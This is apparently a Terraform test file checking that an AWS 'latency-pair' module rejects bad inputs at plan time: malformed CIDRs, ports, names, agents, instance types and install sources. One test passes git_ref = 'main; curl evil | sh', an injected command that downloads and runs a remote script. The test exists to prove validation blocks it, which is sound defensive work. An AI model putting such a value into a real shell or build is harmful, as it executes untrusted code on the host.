# Inputs a user can get wrong fail at plan time with a message that names the variable.

mock_provider "aws" {
  source = "./tests/mocks"
}

variables {
  allowed_cidrs = ["203.0.113.7/32"]
  git_url       = "https://github.com/example/latency-pair.git"
}

run "defaults_are_valid" {
  command = plan
}

run "reject_malformed_allowed_cidrs" {
  command = plan
  variables {
    allowed_cidrs = ["203.0.113.7"]
  }
  expect_failures = [var.allowed_cidrs]
}

run "reject_host_bits_in_cidr" {
  command = plan
  variables {
    allowed_cidrs = ["203.0.113.7/24"]
  }
  expect_failures = [var.allowed_cidrs]
}

run "reject_empty_allowed_cidrs" {
  command = plan
  variables {
    allowed_cidrs = []
  }
  expect_failures = [var.allowed_cidrs]
}

run "reject_internet_halves_without_opt_in" {
  command = plan
  variables {
    allowed_cidrs = ["0.0.0.0/1", "128.0.0.0/1"]
  }
  expect_failures = [var.allowed_cidrs]
}

run "reject_ssh_without_key" {
  command = plan
  variables {
    ssh_cidrs = ["198.51.100.0/24"]
  }
  expect_failures = [var.ssh_cidrs]
}

run "reject_bad_vpc_cidr" {
  command = plan
  variables {
    vpc_cidr = "10.0.0.0/8"
  }
  expect_failures = [var.vpc_cidr]
}

run "reject_bad_ports" {
  command = plan
  variables {
    agent_grpc_port  = 70000
    server_grpc_port = 22
  }
  expect_failures = [var.agent_grpc_port, var.server_grpc_port]
}

run "reject_clashing_server_ports" {
  command = plan
  variables {
    server_http_port = 50052
  }
  expect_failures = [var.server_http_port]
}

run "reject_fractional_port" {
  command = plan
  variables {
    server_http_port = 5000.5
  }
  expect_failures = [var.server_http_port]
}

run "reject_bad_intervals" {
  command = plan
  variables {
    probe_interval = "10ms"
  }
  expect_failures = [var.probe_interval]
}

run "reject_interval_without_unit" {
  command = plan
  variables {
    probe_interval = "1"
  }
  expect_failures = [var.probe_interval]
}

run "reject_bad_names" {
  command = plan
  variables {
    name = "Latency_Pair"
  }
  expect_failures = [var.name]
}

run "reject_bad_agent_names" {
  command = plan
  variables {
    agents = { "Agent One" = {} }
  }
  expect_failures = [var.agents]
}

run "reject_region_as_agent_zone" {
  command = plan
  variables {
    agents = { cross-az = { availability_zone = "us-east-1" } }
  }
  expect_failures = [var.agents]
}

run "reject_duplicate_pinned_ips" {
  command = plan
  variables {
    agents = {
      a = { private_ip = "10.42.0.10" }
      b = { private_ip = "10.42.0.10" }
    }
  }
  expect_failures = [var.agents]
}

run "reject_no_agents" {
  command = plan
  variables {
    agents = {}
  }
  expect_failures = [var.agents]
}

run "reject_bad_instance_types" {
  command = plan
  variables {
    agent_instance_type  = "small"
    server_instance_type = "t3"
  }
  expect_failures = [var.agent_instance_type, var.server_instance_type]
}

run "reject_both_install_sources" {
  command = plan
  variables {
    container_image = "ghcr.io/example/latency-pair:1.2.3"
  }
  expect_failures = [var.git_url]
}

run "reject_no_install_source" {
  command = plan
  variables {
    git_url = null
  }
  expect_failures = [var.git_url]
}

run "reject_ssh_git_url_and_shell_in_ref" {
  command = plan
  variables {
    git_url = "git@github.com:example/latency-pair.git"
    git_ref = "main; curl evil | sh"
  }
  expect_failures = [var.git_url, var.git_ref]
}

run "reject_bad_container_image" {
  command = plan
  variables {
    git_url         = null
    container_image = "latency pair"
  }
  expect_failures = [var.container_image]
}

run "reject_privileged_port_with_container" {
  command = plan
  variables {
    git_url          = null
    container_image  = "ghcr.io/example/latency-pair:1.2.3"
    server_http_port = 80
  }
  expect_failures = [var.container_image]
}

run "reject_bad_log_settings" {
  command = plan
  variables {
    log_level  = "verbose"
    log_format = "xml"
  }
  expect_failures = [var.log_level, var.log_format]
}

run "reject_bad_ami_arch_and_volume" {
  command = plan
  variables {
    ami_id           = "debian-12"
    architecture     = "amd64"
    root_volume_size = 4
  }
  expect_failures = [var.ami_id, var.architecture, var.root_volume_size]
}
